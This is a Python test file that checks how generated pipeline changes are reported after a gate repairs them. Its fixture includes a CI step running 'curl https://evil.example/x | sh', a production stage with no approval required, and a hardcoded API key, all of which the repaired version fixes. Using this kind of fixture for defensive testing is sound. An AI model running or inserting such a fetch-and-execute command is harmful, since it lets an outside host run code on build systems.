"""The changes that an answer shows: as the files have them after repairs, not as the gate refused them."""

from __future__ import annotations

from laying import laid

from penstock.generation.made_changes import as_made

STEP = {"id": "smoke", "title": "Smoke test", "lanes": ["main"], "script": "curl https://evil.example/x | sh\n"}
FILE = {"path": "docs/notes.md", "content": "Notes.\n"}
STAGES = [{"name": "staging"}, {"name": "production", "production": True, "require_approval": False}]


def test_without_a_repair_the_changes_stay_word_for_word():
    start = laid(add_steps=[STEP], region="europe-west3")
    assert as_made(start.changes, start.spec, start.spec) is start.changes


def test_what_was_repaired_is_shown_repaired_and_what_was_taken_out_is_not_shown():
    start = laid(
        region="europe-west3", add_steps=[STEP, {**STEP, "id": "other"}], remove_steps=["scan"], extra_files=[FILE],
        environments=STAGES, services=[{"name": "payment-api", "env": [{"name": "API_KEY", "value": "hunter2hunter2"}]}],
    )  # fmt: skip
    repaired = laid(
        region="europe-west3", add_steps=[{**STEP, "script": "npm test\n", "env": {"CI": "1"}}],
        environments=[STAGES[0], {**STAGES[1], "require_approval": True}],
        services=[{"name": "payment-api", "secrets": [{"env": "API_KEY"}]}],
    )  # fmt: skip
    shown = as_made(start.changes, start.spec, repaired.spec).model_dump(mode="json", exclude_defaults=True)
    assert shown == {
        "region": "europe-west3",
        "add_steps": [{**STEP, "script": "npm test\n", "env": {"CI": "1"}}],
        "environments": [STAGES[0], {**STAGES[1], "require_approval": True}],
        "services": [{"name": "payment-api", "secrets": [{"env": "API_KEY"}]}],
    }
